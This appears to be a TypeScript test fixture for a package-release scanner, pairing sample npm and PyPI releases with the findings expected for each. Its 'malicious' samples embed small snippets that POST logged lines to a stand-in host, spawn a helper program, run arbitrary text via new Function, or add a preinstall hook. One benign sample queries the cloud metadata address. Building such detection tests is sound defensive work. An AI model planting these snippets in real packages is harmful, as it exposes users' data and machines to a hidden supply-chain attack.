import type { ReleaseContext, ReleaseFacts } from '@weir/model';
import type { Sample, Samples } from '../contract.ts';
import { imported, manifest, releaseContext, releaseFacts, sdist, wheel } from '../samples-kit.ts';

const PLAIN = 'exports.pad = (text, width) => text.padStart(width);\n';
const SENDING = `${PLAIN}const https = require('node:https');
const lines = [];
exports.note = (line) => {
  lines.push(line);
  https.request('https://lines.weir.example/note', { method: 'POST' }).end(line);
};
`;
const STARTING = `${PLAIN}require('node:child_process').spawn('pad-helper', ['--quiet']);\n`;
const RUNNING = `${PLAIN}exports.run = (text) => new Function(text)();\n`;

/** A release of a package that is years old, or what `part` says, with the version that it has. */
function update(
  version: string,
  part: Partial<ReleaseFacts> = {},
  ecosystem: 'npm' | 'pypi' = 'npm',
): ReleaseContext {
  const facts = releaseFacts({
    previousVersion: '1.4.2',
    versionCount: 40,
    packageCreatedAt: '2022-01-01T00:00:00.000Z',
    ...part,
  });
  const context = releaseContext(facts, { ecosystem });
  return { ...context, release: { ...context.release, version } };
}

function since(version: string, files: Sample['files']): NonNullable<Sample['previous']> {
  return { version, files };
}

function quiet(
  name: string,
  files: Sample['files'],
  previous: Sample['previous'],
  context: ReleaseContext,
): Sample {
  return { name, files, ...(previous ? { previous } : {}), context, expected: [] };
}

function hooked(scripts: Readonly<Record<string, string>>): Sample['files'] {
  return {
    'package.json': manifest({ main: 'index.js', scripts }),
    'index.js': PLAIN,
    'setup.js': 'console.log(1);\n',
  };
}

const DEAD = { ...imported(PLAIN), 'lib/send.js': SENDING };

export const samples: Samples = {
  malicious: [
    {
      name: 'a patch release that begins to send, to a host that nobody named',
      files: imported(SENDING),
      previous: since('1.4.2', imported(PLAIN)),
      context: update('1.4.3'),
      expected: [
        { rule: 'ability', file: 'index.js', line: 6, severity: 'high' },
        { rule: 'destination', file: 'index.js', line: 6, severity: 'high' },
      ],
    },
    {
      name: 'a minor one',
      files: imported(SENDING),
      previous: since('1.4.2', imported(PLAIN)),
      context: update('1.5.0'),
      expected: [
        { rule: 'ability', file: 'index.js', line: 6, severity: 'high' },
        { rule: 'destination', file: 'index.js', line: 6, severity: 'medium' },
      ],
    },
    {
      name: 'a minor one that runs text',
      files: imported(RUNNING),
      previous: since('1.4.2', imported(PLAIN)),
      context: update('1.5.0'),
      expected: [{ rule: 'ability', file: 'index.js', line: 2, severity: 'high' }],
    },
    {
      name: 'a patch release of a package of three months',
      files: imported(STARTING),
      previous: since('1.4.2', imported(PLAIN)),
      context: update('1.4.3', { packageCreatedAt: '2026-08-20T00:00:00.000Z' }),
      expected: [{ rule: 'ability', file: 'index.js', line: 2, severity: 'medium' }],
    },
    {
      name: 'the fourth release of a package',
      files: imported(STARTING),
      previous: since('1.4.2', imported(PLAIN)),
      context: update('1.4.3', { versionCount: 4 }),
      expected: [{ rule: 'ability', file: 'index.js', line: 2, severity: 'medium' }],
    },
    {
      name: 'a minor one by somebody else',
      files: imported(STARTING),
      previous: since('1.4.2', imported(PLAIN)),
      context: update('1.5.0', {
        publisher: { name: 'mallory', email: 'mallory@people.example' },
        previousPublisher: { name: 'ann', email: 'ann@people.example' },
        previousFacts: {
          publishedAt: '2026-10-01T00:00:00.000Z',
          trustedPublisher: null,
          maintainers: [{ name: 'ann', email: 'ann@people.example' }],
          dependencies: {},
          hooks: {},
        },
      }),
      expected: [{ rule: 'ability', file: 'index.js', line: 2, severity: 'high' }],
    },
    {
      name: 'a patch release that starts a program',
      files: imported(STARTING),
      previous: since('1.4.2', imported(PLAIN)),
      context: update('1.4.3'),
      expected: [{ rule: 'ability', file: 'index.js', line: 2, severity: 'high' }],
    },
    {
      name: 'one that runs text, in a file that is new',
      files: { ...imported(`${PLAIN}exports.run = require('./lib/run.js').run;\n`), 'lib/run.js': RUNNING },
      previous: since('1.4.2', imported(PLAIN)),
      context: update('1.4.3'),
      expected: [{ rule: 'ability', file: 'lib/run.js', line: 2, severity: 'high' }],
    },
    {
      name: 'what sends already asks a host of another owner',
      files: imported(SENDING.replace('lines.weir.example', 'lines.other.example')),
      previous: since('1.4.2', imported(SENDING.replace('/note', '/notes'))),
      context: update('1.4.3'),
      expected: [{ rule: 'destination', file: 'index.js', line: 6, severity: 'high' }],
    },
    {
      name: 'a file that lay there before and is reached now',
      files: { ...DEAD, ...imported(`${PLAIN}exports.note = require('./lib/send.js').note;\n`) },
      previous: since('1.4.2', DEAD),
      context: update('1.4.3'),
      expected: [
        { rule: 'ability', file: 'lib/send.js', line: 6, severity: 'high' },
        { rule: 'destination', file: 'lib/send.js', line: 6, severity: 'high' },
      ],
    },
    {
      name: 'an install script in a package that had none',
      files: hooked({ preinstall: 'node setup.js' }),
      previous: since('1.4.2', imported(PLAIN)),
      context: update('1.5.0'),
      expected: [{ rule: 'hook', file: 'package.json', line: 6, severity: 'high' }],
    },
    {
      name: 'a patch release of a distribution whose module begins to send',
      files: wheel("import urllib.request\n\nurllib.request.urlopen('https://lines.weir.example/note')\n"),
      filename: 'own-1.4.3-py3-none-any.whl',
      previous: since('1.4.2', wheel('def pad(text, width):\n    return text.rjust(width)\n')),
      context: update('1.4.3', {}, 'pypi'),
      expected: [
        { rule: 'ability', file: 'own/__init__.py', line: 3, severity: 'high' },
        { rule: 'destination', file: 'own/__init__.py', line: 3, severity: 'high' },
      ],
    },
  ],
  benign: [
    quiet(
      'an install script that changes',
      hooked({ postinstall: 'node setup.js --quiet' }),
      since('1.4.2', hooked({ postinstall: 'node setup.js' })),
      update('1.4.3'),
    ),
    quiet(
      'a native build that is new',
      hooked({ install: 'node-gyp-build' }),
      since('1.4.2', imported(PLAIN)),
      update('1.5.0'),
    ),
    quiet('a major release', imported(SENDING), since('1.4.2', imported(PLAIN)), update('2.0.0')),
    quiet(
      'the same ability as before',
      imported(SENDING),
      since('1.4.2', imported(SENDING.replace('/note', '/notes'))),
      update('1.4.3'),
    ),
    quiet('an ability that goes away', imported(PLAIN), since('1.4.2', imported(SENDING)), update('1.4.3')),
    quiet(
      'a host of the same owner',
      imported(SENDING.replace('lines.weir', 'notes.weir')),
      since('1.4.2', imported(SENDING)),
      update('1.4.3'),
    ),
    quiet(
      'a host of the owner that the manifest names',
      imported(SENDING.replace('lines.weir.example', 'lines.people.example')),
      since('1.4.2', imported(SENDING)),
      update('1.4.3', { manifest: { homepage: 'https://people.example/pad' } }),
    ),
    quiet('a first release', imported(SENDING), undefined, update('1.4.3', { previousVersion: null })),
    quiet(
      'a package of a few days',
      imported(SENDING),
      since('1.4.2', imported(PLAIN)),
      update('1.4.3', { packageCreatedAt: '2026-11-15T00:00:00.000Z' }),
    ),
    quiet(
      'a release below the one before',
      imported(SENDING),
      since('1.4.2', imported(PLAIN)),
      update('1.3.9'),
    ),
    quiet(
      'text that stands there to be read',
      imported(
        `${PLAIN}exports.root = Function('return this')();\nexports.load = () => eval("import('x')");\n`,
      ),
      since('1.4.2', imported(PLAIN)),
      update('1.4.3'),
    ),
    quiet(
      'what sends already asks the service of its own cloud',
      imported(SENDING.replace('https://lines.weir.example', 'http://169.254.169.254')),
      since('1.4.2', imported(SENDING)),
      update('1.4.3'),
    ),
    quiet(
      'a file of the name of a host',
      wheel("import urllib.request\n\nurllib.request.urlretrieve(own.ADDRESS, 'pad.weir.example')\n"),
      since('1.4.2', wheel('import urllib.request\n\nurllib.request.urlretrieve(own.ADDRESS)\n')),
      update('1.4.3', {}, 'pypi'),
    ),
    quiet(
      'a setup script that could run programs before',
      sdist(
        "import subprocess\nfrom setuptools import setup\n\nsubprocess.run(['make', 'all'])\nsetup(name='own')\n",
      ),
      since(
        '1.4.2',
        sdist(
          "import subprocess\nfrom setuptools import setup\n\nsubprocess.run(['make'])\nsetup(name='own')\n",
        ),
      ),
      update('1.4.3', {}, 'pypi'),
    ),
  ],
};
